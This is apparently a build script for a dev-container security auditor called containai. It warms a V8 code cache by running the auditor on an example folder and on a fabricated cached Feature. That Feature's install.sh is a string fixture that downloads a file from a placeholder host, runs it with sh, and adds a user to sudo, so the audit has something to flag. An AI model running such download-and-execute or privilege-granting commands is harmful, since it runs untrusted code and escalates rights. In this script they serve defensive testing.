/**
 * The part of the build that lets a start skip most of its compiling: marks dist/commands.cjs with a line of its own and writes dist/commands.cache, the
 * code that this version of the engine made of it. See src/machine/load-script.ts, which reads both.
 */
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Script } from 'node:vm';

/** `example`: a folder to audit once, so that the functions of an ordinary audit are compiled too; they are left out where it does not exist. */
export async function writeScriptCache(dist, example) {
  const path = join(dist, 'commands.cjs');
  const id = `//${randomBytes(8).toString('hex')}\n`;
  const source = id + readFileSync(path, 'latin1');
  writeFileSync(path, source, 'latin1');
  const script = new Script(`(function(module,exports,require){${source}\n})`, { filename: path });
  const module = { exports: {} };
  script.runInThisContext()(module, module.exports, createRequire(path));
  const { audit } = module.exports.runners;
  if (existsSync(example)) await audit([example], { ...silent, print() {} });
  await auditLookedUp(audit);
  writeFileSync(join(dist, 'commands.cache'), Buffer.concat([Buffer.from(id), script.createCachedData()]));
}

const silent = { version: '', complain() {}, isTerminal: false, width: 100, noColor: true };

/** Audits a configuration whose one Feature was looked up before, so that the functions of that are compiled too. Nobody is asked. */
async function auditLookedUp(audit) {
  const folder = mkdtempSync(join(tmpdir(), 'containai-build-'));
  const before = process.env.XDG_CACHE_HOME;
  try {
    const cache = join(folder, 'containai');
    mkdirSync(cache, { mode: 0o700 });
    const [place, hash] = ['registry.example/build/tool', '0'.repeat(64)];
    const digest = `sha256:${hash}`;
    const tag = createHash('sha256').update(`${place}:1`).digest('hex');
    const text =
      'set -e\ncurl -o /tmp/get https://example.test/get\nif [ -f /tmp/get ]; then sh "$(echo /tmp/get)"; fi\nusermod -aG sudo dev\n';
    const metadata = '{ "id": "tool", "version": "1.0.0", "containerEnv": { "TOOL": "1" } }';
    const feature = { resolved: '', digest, metadata, scripts: [{ path: 'install.sh', text }], unread: [], setuidFiles: [] };
    writeFileSync(join(cache, `tag-1-${tag}.json`), JSON.stringify({ digest }));
    writeFileSync(join(cache, `feature-1-${hash}.json`), JSON.stringify(feature));
    writeFileSync(join(folder, 'advisories.json'), '{ "disallowedFeatures": [], "featureAdvisories": [] }');
    writeFileSync(join(folder, '.devcontainer.json'), JSON.stringify({ image: 'debian:12', features: { [`${place}:1`]: {} } }));
    process.env.XDG_CACHE_HOME = folder;
    let report = '';
    const print = (part) => void (report += part);
    // The second finds in the cache what the first has found in the script.
    for (let run = 0; run < 2; run++)
      await audit(['--resolve', '--offline', '--advisories', join(folder, 'advisories.json'), folder], { ...silent, print });
    if (!report.includes('feature-grants-rights')) throw new Error('The Feature that the build audits was not found in the cache.');
  } finally {
    if (before === undefined) delete process.env.XDG_CACHE_HOME;
    else process.env.XDG_CACHE_HOME = before;
    rmSync(folder, { recursive: true, force: true });
  }
}
